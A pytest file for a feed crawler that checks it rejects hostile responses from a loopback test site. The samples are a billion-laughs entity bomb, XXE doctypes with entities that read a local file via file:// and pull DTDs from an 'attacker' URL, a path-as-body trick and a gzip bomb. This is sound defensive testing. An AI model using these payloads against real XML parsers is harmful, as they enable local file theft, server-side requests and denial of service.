"""Hostile answers, through one real crawl of a loopback site: an entity bomb (billion laughs), external
entities pointing at a local file and at a loopback URL, a body that is a local file's path, and a
gzip answer that expands to gigabytes. Each is rejected: nothing expanded, nothing fetched, nothing
local read, the crawl process stays small, and each source fails with a reason while a good source
beside them is stored.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import sqlite_utils

from spiders.sources.site import LoopbackSite
from tests.crawl_helpers import ROOT, fundwatch_command, fundwatch_env, write_config
from tests.reliability.generated import rss
from tests.reliability.hostile_site import HostileSite, billion_laughs, gzip_bomb

pytestmark = pytest.mark.slow

LOCAL_MARKER = "LOCAL-FILE-CALL-7c1e"  # in files on this machine: must never reach the repository
RSS_TYPE = {"Content-Type": "application/rss+xml; charset=utf-8"}
XML_TYPE = {"Content-Type": "application/xml; charset=utf-8"}
MEMORY_CEILING_MB = 600  # a crawl peaks near 100 MB; an expanded bomb would be gigabytes


def item(title: str, link: str) -> str:
    return (
        f"<item><title>{title}</title><link>{link}</link><description>{title}</description></item>"
    )


def feed_with(doctype: str, *items: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<rss version="2.0"><channel>'
        f"<title>Hostile feed</title><link>{{{{SITE}}}}/</link>{''.join(items)}</channel></rss>"
    )


def xxe_doctype(root: str, secret: Path, attacker: str) -> str:
    return (
        f'<!DOCTYPE {root} SYSTEM "{attacker}/external.dtd" ['
        f'<!ENTITY local SYSTEM "file://{secret}">'
        f'<!ENTITY remote SYSTEM "{attacker}/entity">'
        f'<!ENTITY % parameter SYSTEM "{attacker}/parameter.dtd"> %parameter;]>'
    )


def crawl_measured(config: Path, db: Path) -> tuple[subprocess.CompletedProcess, int]:
    """`fundwatch crawl`, with the peak memory of the crawl's processes (a wrapper reports its
    own children's, so no other test's processes are counted)."""
    wrapper = textwrap.dedent(
        """
        import resource, subprocess, sys
        done = subprocess.run(sys.argv[1:])
        print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)
        sys.exit(done.returncode)
        """
    )
    command = fundwatch_command(config=config, db=db)
    done = subprocess.run(
        [sys.executable, "-c", wrapper, *command, "crawl"],
        cwd=ROOT,
        env=fundwatch_env(),
        capture_output=True,
        text=True,
        timeout=240,
    )
    peak_kb = int(done.stderr.strip().splitlines()[-1])  # ru_maxrss is in kilobytes on Linux
    return done, peak_kb // 1024


def test_bombs_external_entities_and_local_paths_are_rejected_in_a_real_crawl(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(f"{LOCAL_MARKER} from a local file\n")
    local_feed = tmp_path / "local-feed.xml"
    local_feed.write_text(rss(range(3), site="https://funder.example.gov.uk", note=LOCAL_MARKER))
    with HostileSite() as site, LoopbackSite() as attacker:
        good = "{{SITE}}/calls/good"
        site.add("/good.rss", rss(range(5), site=site.url), RSS_TYPE)
        site.add(
            "/laughs.rss",
            feed_with(f"<!DOCTYPE rss [{billion_laughs()}]>", item("Bomb &lol9;", good)),
            RSS_TYPE,
        )
        site.add(
            "/xxe.rss",
            feed_with(
                xxe_doctype("rss", secret, attacker.url),
                item("Read &local; and &remote;", f"{good}/xxe"),
            ),
            RSS_TYPE,
        )
        site.add(  # malformed too, so feedparser falls back to its loose parser
            "/xxe_loose.rss",
            feed_with(
                xxe_doctype("rss", secret, attacker.url),
                item("Loose &local; and &remote;", f"{good}/loose"),
                "<item><title>unclosed <b>markup</title>",
            ),
            RSS_TYPE,
        )
        site.add("/path.rss", str(local_feed), RSS_TYPE)  # a body that is a local file's path
        site.add(
            "/listing.xml",
            f'<?xml version="1.0"?>{xxe_doctype("calls", secret, attacker.url)[:-2]}'
            f"{billion_laughs()}]><calls><call><name>Listed &local; &remote; &lol9;</name>"
            f"<href>{good}/listed</href></call></calls>",
            XML_TYPE,
        )
        site.add("/bomb.rss", gzip_bomb(4), {**RSS_TYPE, "Content-Encoding": "gzip"})
        sources = [
            {"id": name, "kind": "feed", "urls": [f"{site.url}/{name}.rss"], "funder": "Funder"}
            for name in ("good", "laughs", "xxe", "xxe_loose", "path", "bomb")
        ]
        sources.append(
            {
                "id": "listing",
                "kind": "listing",
                "urls": [f"{site.url}/listing.xml"],
                "item": "xpath://call",
                "fields": {"title": "xpath:name", "url": "xpath:href/text()"},
            }
        )
        config = write_config(tmp_path / "config", sources)
        db_path = tmp_path / "fundwatch.db"
        done, peak_mb = crawl_measured(config, db_path)
        attacker_hits = attacker.hits

    output = done.stdout + done.stderr
    assert "Traceback" not in output, output[-3000:]
    assert attacker_hits == [], "an external entity or DTD was fetched"
    assert peak_mb < MEMORY_CEILING_MB, f"the crawl grew to {peak_mb} MB"
    db = sqlite_utils.Database(db_path)
    runs = {r["source_id"]: r for r in db.query("select * from runs")}
    assert runs["good"]["outcome"] == "ok" and runs["good"]["items"] == 5
    assert runs["bomb"]["outcome"] == "failed"
    assert "limit once decompressed" in runs["bomb"]["reason"], runs["bomb"]["reason"]
    assert runs["path"]["outcome"] == "failed", runs["path"]  # it was 'ok', with the file's calls
    assert runs["xxe_loose"]["outcome"] == "failed"  # malformed, said so; nothing read or fetched
    assert runs["laughs"]["outcome"] == "failed"
    assert "amplification" in runs["laughs"]["reason"], runs["laughs"]["reason"]
    stored = " ".join(
        str(value) for row in db.query("select * from listings") for value in row.values()
    )
    assert "lollol" not in stored
    repository = b"".join(p.read_bytes() for p in tmp_path.glob("fundwatch.db*") if p.is_file())
    assert LOCAL_MARKER.encode() not in repository, "a local file was read into the repository"
    assert b"lollollol" not in repository
